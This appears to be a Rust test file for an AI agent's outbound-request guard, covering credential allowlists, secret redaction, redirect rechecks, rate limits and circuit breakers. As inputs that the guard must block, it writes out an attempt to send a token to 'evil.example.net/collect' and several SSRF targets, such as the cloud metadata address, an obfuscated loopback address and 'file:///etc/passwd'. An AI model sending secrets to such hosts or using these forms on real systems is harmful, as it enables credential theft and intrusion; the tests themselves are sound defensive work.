use super::*;
use crate::ports::testing::{ports, Canned, ManualClock, ScriptedHttp};
use crate::security::{AuditLog, Credentials, InMemoryAudit, SecretError};
use async_trait::async_trait;
use futures::executor::block_on;

const TOKEN: &str = "tok-3f9a1c7e5b2d4086";

/// One stored secret, `API_TOKEN`, allowed for `api.example.com` and injected as `form`.
struct OneSecret(Injection);

#[async_trait(?Send)]
impl Credentials for OneSecret {
    async fn reveal(&self, name: &str) -> Result<(SecretMeta, SecretValue), SecretError> {
        if name != "API_TOKEN" {
            return Err(SecretError::NotFound(name.into()));
        }
        let meta = SecretMeta {
            name: name.into(),
            hosts: vec![HostPattern::parse("api.example.com", false).unwrap()],
            inject: self.0.clone(),
            created_at: 0,
            updated_at: 0,
        };
        Ok((meta, SecretValue::from(TOKEN.to_string())))
    }
    async fn values(&self) -> Result<Vec<(String, SecretValue)>, SecretError> {
        Ok(vec![("API_TOKEN".into(), SecretValue::from(TOKEN.to_string()))])
    }
}

struct Setup {
    egress: Egress,
    http: Rc<ScriptedHttp>,
    clock: Rc<ManualClock>,
    audit: Rc<InMemoryAudit>,
    guard: Rc<Guard>,
}

fn setup_with(policy: EgressPolicy, form: Injection) -> Setup {
    let http = Rc::new(ScriptedHttp::default());
    let (ports, clock) = ports(http.clone());
    let audit = Rc::new(InMemoryAudit::default());
    let guard = Rc::new(Guard::new(Some(Rc::new(OneSecret(form))), AuditLog::new("alice", Some("s"), audit.clone())));
    block_on(guard.refresh()).unwrap();
    Setup { egress: Egress::new(ports, policy, guard.clone()), http, clock, audit, guard }
}

fn setup() -> Setup {
    setup_with(EgressPolicy::default(), Injection::Bearer)
}

fn get(url: &str) -> HttpRequest {
    HttpRequest { method: "GET".into(), url: url.into(), headers: vec![], body: vec![] }
}

fn page(status: u16, body: &str, headers: &[(&str, &str)]) -> Result<Canned, crate::ports::HttpError> {
    Ok(Canned {
        status,
        headers: headers.iter().map(|(k, v)| (k.to_string(), v.to_string())).collect(),
        chunks: vec![Ok(body.as_bytes().to_vec())],
    })
}

fn text(body: &str) -> Result<Canned, crate::ports::HttpError> {
    page(200, body, &[("content-type", "text/plain")])
}

impl Setup {
    fn fetch(&self, request: HttpRequest, credential: Option<&str>) -> Result<TextResponse, EgressError> {
        block_on(self.egress.fetch_text("http_fetch", request, credential))
    }

    fn audited(&self) -> Vec<AuditEntry> {
        block_on(self.guard.audit().flush()).unwrap();
        self.audit.entries()
    }
}

#[test]
fn a_secret_is_not_sent_to_a_host_off_its_allowlist_and_the_refusal_is_audited() {
    let s = setup();
    let err = s.fetch(get("https://evil.example.net/collect"), Some("API_TOKEN")).unwrap_err();
    assert!(matches!(&err, EgressError::Blocked(why) if why.contains("may not be sent to evil.example.net")), "{err}");
    assert!(s.http.requests.borrow().is_empty(), "nothing left the agent");
    let entries = s.audited();
    assert_eq!(entries.len(), 1);
    assert_eq!((entries[0].kind, entries[0].decision), (AuditKind::Egress, Decision::Blocked));
    assert_eq!(entries[0].detail["url"], "https://evil.example.net/collect");
    assert!(!serde_json::to_string(&entries).unwrap().contains(TOKEN));
}

#[test]
fn credentials_are_injected_in_the_form_their_secret_names() {
    let cases = [
        (Injection::Bearer, Some(("authorization", format!("Bearer {TOKEN}"))), "https://api.example.com/v1?q=1"),
        (
            Injection::Header { name: "X-Api-Key".into() },
            Some(("X-Api-Key", TOKEN.into())),
            "https://api.example.com/v1?q=1",
        ),
        (
            Injection::Basic { username: "bot".into() },
            Some((
                "authorization",
                format!("Basic {}", base64::engine::general_purpose::STANDARD.encode(format!("bot:{TOKEN}"))),
            )),
            "https://api.example.com/v1?q=1",
        ),
        (Injection::Query { param: "key".into() }, None, "https://api.example.com/v1?q=1&key=tok-3f9a1c7e5b2d4086"),
    ];
    for (form, header, url) in cases {
        let s = setup_with(EgressPolicy::default(), form.clone());
        s.http.responses.borrow_mut().push_back(text("ok"));
        s.fetch(get("https://api.example.com/v1?q=1"), Some("API_TOKEN")).unwrap();
        let sent = &s.http.requests.borrow()[0];
        assert_eq!(sent.url, url, "{form:?}");
        if let Some((name, value)) = header {
            assert!(sent.headers.contains(&(name.to_string(), value)), "{form:?}: {:?}", sent.headers);
        }
    }
}

#[test]
fn a_request_that_carries_a_secret_itself_is_blocked_before_it_is_sent() {
    let s = setup();
    for request in [
        get(&format!("https://example.org/?t={TOKEN}")),
        HttpRequest {
            method: "POST".into(),
            body: format!("{{\"k\":\"{TOKEN}\"}}").into_bytes(),
            ..get("https://example.org/")
        },
        get("https://example.org/").header("x-note", "ghp_0123456789abcdefghijABCDEFGHIJ012345"),
    ] {
        let err = s.fetch(request, None).unwrap_err();
        assert!(matches!(&err, EgressError::Blocked(why) if why.contains("carries a credential")), "{err}");
        assert!(!err.to_string().contains(TOKEN));
    }
    assert!(s.http.requests.borrow().is_empty());
}

#[test]
fn internal_destinations_plain_http_and_other_schemes_are_refused() {
    let s = setup();
    for url in [
        "https://127.0.0.1/",
        "https://0x7f.1/",
        "https://[::ffff:10.0.0.1]/",
        "https://169.254.169.254/",
        "http://example.com/",
        "file:///etc/passwd",
    ] {
        assert!(matches!(s.fetch(get(url), None), Err(EgressError::Blocked(_))), "{url}");
    }
    assert!(s.http.requests.borrow().is_empty());
    let local = setup_with(
        EgressPolicy { allow_http: true, allow_private: true, ..EgressPolicy::default() },
        Injection::Bearer,
    );
    local.http.responses.borrow_mut().push_back(text("local"));
    assert_eq!(local.fetch(get("http://127.0.0.1:9/"), None).unwrap().text, "local");
}

#[test]
fn each_tool_reaches_only_its_own_hosts() {
    let policy = EgressPolicy {
        allow: EgressPolicy::parse_allow("http_fetch=*.wikipedia.org, api.github.com").unwrap(),
        ..EgressPolicy::default()
    };
    let s = setup_with(policy, Injection::Bearer);
    s.http.responses.borrow_mut().push_back(text("ok"));
    assert!(s.fetch(get("https://en.wikipedia.org/wiki/Rust"), None).is_ok());
    let err = s.fetch(get("https://example.com/"), None).unwrap_err();
    assert!(err.to_string().contains("not on the allowlist of `http_fetch`"), "{err}");
    let other = block_on(s.egress.fetch_text("other_tool", get("https://api.github.com/"), None)).unwrap_err();
    assert!(other.to_string().contains("may not make outbound requests"), "{other}");
    assert!(EgressPolicy::parse_allow("http_fetch").is_err());
    assert!(EgressPolicy::parse_allow("Bad Tool=x.com").is_err());
    assert!(EgressPolicy::parse_allow("http_fetch=not a host").is_err());
}

#[test]
fn redirects_are_rechecked_at_every_hop_and_credentials_never_follow_them_off_their_hosts() {
    let s = setup();
    s.http.responses.borrow_mut().extend([
        page(302, "", &[("location", "/next")]),
        text("hello"),
        page(301, "", &[("location", "http://10.0.0.5/secret")]),
        page(302, "", &[("location", "https://elsewhere.example.org/")]),
    ]);
    assert_eq!(s.fetch(get("https://example.com/start"), None).unwrap().text, "hello");
    assert_eq!(s.http.requests.borrow()[1].url, "https://example.com/next");
    assert!(matches!(s.fetch(get("https://example.com/evil"), None), Err(EgressError::Blocked(_))));
    let err = s.fetch(get("https://api.example.com/x"), Some("API_TOKEN")).unwrap_err();
    assert!(err.to_string().contains("may not be sent to elsewhere.example.org"), "{err}");
    assert_eq!(s.http.requests.borrow().len(), 4, "the off-host hop was never sent");
}

#[test]
fn answers_are_cut_at_the_limit_scanned_for_credentials_and_must_be_text() {
    let s = setup_with(EgressPolicy { max_body_bytes: 64, ..EgressPolicy::default() }, Injection::Bearer);
    s.http.responses.borrow_mut().extend([
        text(&format!("your key is {TOKEN} ok")),
        text(&"x".repeat(100)),
        page(200, "\u{89}PNG", &[("content-type", "image/png")]),
    ]);
    let answer = s.fetch(get("https://example.com/"), None).unwrap();
    assert_eq!(answer.text, "your key is [REDACTED:secret:API_TOKEN] ok");
    let long = s.fetch(get("https://example.com/"), None).unwrap();
    assert!(long.truncated && long.text.len() == 64);
    assert!(s.fetch(get("https://example.com/p.png"), None).unwrap_err().to_string().contains("not text"));
    assert!(s.audited()[0].outcome.contains("1 credential(s) redacted"));
}

#[test]
fn each_tool_has_a_rate_limit_that_refills_over_time() {
    let s = setup_with(EgressPolicy { requests_per_minute: 2, ..EgressPolicy::default() }, Injection::Bearer);
    s.http.responses.borrow_mut().extend([text("1"), text("2"), text("3")]);
    assert!(s.fetch(get("https://example.com/"), None).is_ok());
    assert!(s.fetch(get("https://example.com/"), None).is_ok());
    let err = s.fetch(get("https://example.com/"), None).unwrap_err();
    assert!(err.to_string().contains("at most 2 requests a minute"), "{err}");
    s.clock.now.set(s.clock.now.get() + 30_000);
    assert!(s.fetch(get("https://example.com/"), None).is_ok());
}

#[test]
fn a_failing_host_opens_its_circuit_until_the_cooldown_ends() {
    let s = setup();
    for _ in 0..BREAKER_THRESHOLD {
        s.http.responses.borrow_mut().push_back(page(503, "down", &[]));
        assert!(s.fetch(get("https://flaky.example.com/"), None).is_ok(), "a 5xx answer is still an answer");
    }
    let err = s.fetch(get("https://flaky.example.com/"), None).unwrap_err();
    assert!(err.to_string().contains("failed repeatedly"), "{err}");
    s.http.responses.borrow_mut().push_back(text("other hosts are unaffected"));
    assert!(s.fetch(get("https://fine.example.com/"), None).is_ok());
    s.clock.now.set(s.clock.now.get() + BREAKER_COOLDOWN_MS);
    s.http.responses.borrow_mut().push_back(text("back"));
    assert_eq!(s.fetch(get("https://flaky.example.com/"), None).unwrap().text, "back");
}

#[test]
fn an_unknown_credential_is_refused() {
    let s = setup();
    let err = s.fetch(get("https://api.example.com/"), Some("NOPE")).unwrap_err();
    assert!(err.to_string().contains("no secret `NOPE`"), "{err}");
    let bare =
        Egress::new(ports(Rc::new(ScriptedHttp::default())).0, EgressPolicy::default(), Rc::new(Guard::default()));
    let err = block_on(bare.fetch_text("http_fetch", get("https://api.example.com/"), Some("X"))).unwrap_err();
    assert!(err.to_string().contains("no stored secrets"), "{err}");
}
